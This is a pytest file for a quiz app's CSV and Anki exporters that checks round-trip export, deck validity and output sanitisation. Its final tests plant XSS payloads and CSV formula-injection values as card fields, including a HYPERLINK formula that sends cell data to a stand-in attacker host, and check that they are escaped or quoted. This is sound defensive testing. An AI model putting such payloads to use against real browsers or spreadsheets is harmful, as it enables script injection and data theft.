import csv
import io
import sqlite3
import zipfile

import pytest

from quizzes.course_files import read_course_dir, write_course_dir
from quizzes.exporters import course_to_csv, course_to_data, csv_cell, export_apkg
from quizzes.models import Card
from quizzes.services import load_course_data
from tests.conftest import CONTENT

pytestmark = pytest.mark.django_db


def test_load_export_load_is_lossless(shipped_course, tmp_path):
    exported = tmp_path / "export"
    write_course_dir(course_to_data(shipped_course), exported)
    assert read_course_dir(exported) == read_course_dir(CONTENT)
    report = load_course_data(read_course_dir(exported))
    assert report.created == {} and report.updated == {}


def test_admin_edits_are_exported_back_to_the_same_file(shipped_course, tmp_path):
    card = shipped_course.cards.get(
        kind="numeric",
        slug__startswith="num-",
        position=min(shipped_course.cards.filter(kind="numeric").values_list("position", flat=True)),
    )
    card.unit = "GiB"
    card.save()
    write_course_dir(course_to_data(shipped_course), tmp_path / "x")
    exported = {c["id"]: c for c in read_course_dir(tmp_path / "x").cards}
    assert exported[card.slug]["unit"] == "GiB"
    assert exported[card.slug]["_file"] == card.source_file == "numeric.yaml"


def test_csv_export_has_one_row_per_card(shipped_course):
    rows = list(csv.DictReader(io.StringIO(course_to_csv(shipped_course))))
    assert len(rows) == Card.objects.count()
    numeric = next(r for r in rows if r["kind"] == "numeric")
    assert float(numeric["numeric_answer"]) > 0 and numeric["unit"]


def test_anki_package_is_valid_with_one_note_per_active_card(shipped_course, tmp_path):
    shipped_course.cards.filter(kind="recall").update(retired=True)
    active = shipped_course.cards.filter(retired=False).count()
    path = tmp_path / "deck.apkg"
    assert export_apkg(shipped_course, path) == active
    with zipfile.ZipFile(path) as z:
        assert "collection.anki2" in z.namelist()
        z.extract("collection.anki2", tmp_path)
    db = sqlite3.connect(tmp_path / "collection.anki2")
    assert db.execute("select count(*) from notes").fetchone()[0] == active
    reversible = shipped_course.cards.filter(retired=False, kind="basic", reversible=True).count()
    # Reversible glossary notes make two Anki cards each.
    assert db.execute("select count(*) from cards").fetchone()[0] == active + reversible
    fields = [row[0] for row in db.execute("select flds from notes")]
    assert any("Key points" not in f and "\x1f" in f for f in fields)
    db.close()


def test_anki_export_is_stable_across_exports(shipped_course, tmp_path):
    export_apkg(shipped_course, tmp_path / "a.apkg")
    export_apkg(shipped_course, tmp_path / "b.apkg")
    guids = []
    for name in ("a", "b"):
        with zipfile.ZipFile(tmp_path / f"{name}.apkg") as z:
            z.extract("collection.anki2", tmp_path / name)
        db = sqlite3.connect(tmp_path / name / "collection.anki2")
        guids.append(sorted(r[0] for r in db.execute("select guid from notes")))
        db.close()
    assert guids[0] == guids[1]


def test_export_command_writes_files(shipped_course, tmp_path):
    from django.core.management import call_command

    call_command("export_course", "cuda-kernels-fusion", "--out", str(tmp_path / "c"))
    assert (tmp_path / "c" / "course.yaml").exists()


def test_export_command_names_unknown_courses(db, tmp_path):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="unknown course 'nope'"):
        call_command("export_course", "nope", "--out", str(tmp_path / "c"))


def _apkg_fields(course, tmp_path) -> list[str]:
    path = tmp_path / "deck.apkg"
    export_apkg(course, path)
    with zipfile.ZipFile(path) as z:
        z.extract("collection.anki2", tmp_path)
    db = sqlite3.connect(tmp_path / "collection.anki2")
    try:
        return [field for (flds,) in db.execute("select flds from notes") for field in flds.split("\x1f")]
    finally:
        db.close()


def test_no_field_of_the_anki_deck_carries_markup_an_author_typed(shipped_course, tmp_path):
    numeric = shipped_course.cards.filter(kind="numeric").first()
    numeric.unit = '<img src=x onerror="alert(1)">'
    numeric.save()
    interview = shipped_course.cards.filter(kind="interview").first()
    interview.key_points = ['<script>alert("kp")</script>', "<b onclick=x()>bold</b>"]
    interview.common_wrong_answer = '<a href="javascript:alert(2)">wrong</a>'
    interview.save()
    fields = _apkg_fields(shipped_course, tmp_path)
    tags = tags_in("\n".join(fields))
    assert not [t for t, _ in tags if t in ("img", "script")]
    assert not [(t, a) for t, attrs in tags for a, v in attrs if a.startswith("on") or "javascript:" in (v or "")]
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in fields


def tags_in(markup: str) -> list[tuple[str, list]]:
    from html.parser import HTMLParser

    found = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(markup)
    return found


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_quoted(shipped_course, start):
    card = shipped_course.cards.filter(kind="numeric").first()
    card.prompt = f'{start}HYPERLINK("http://evil.example/?"&A1, "click")'
    card.unit = f"{start}1+1"
    card.save()
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(course_to_csv(shipped_course)))}
    assert rows[card.slug]["prompt"] == "'" + card.prompt
    assert rows[card.slug]["unit"] == "'" + card.unit
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for value in row.values()
    )


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "=1+1", "-2+3", "+2", "@SUM(A1)"])
def test_a_cell_starting_with_a_tab_or_carriage_return_is_quoted_too(value):
    assert csv_cell(value) == "'" + value
    assert csv_cell("1+1") == "1+1" and csv_cell(-3.5) == -3.5


def test_csv_numbers_stay_numbers_even_when_negative(shipped_course):
    card = shipped_course.cards.filter(kind="numeric").first()
    card.numeric_answer = -3.5
    card.save()
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(course_to_csv(shipped_course)))}
    assert float(rows[card.slug]["numeric_answer"]) == -3.5
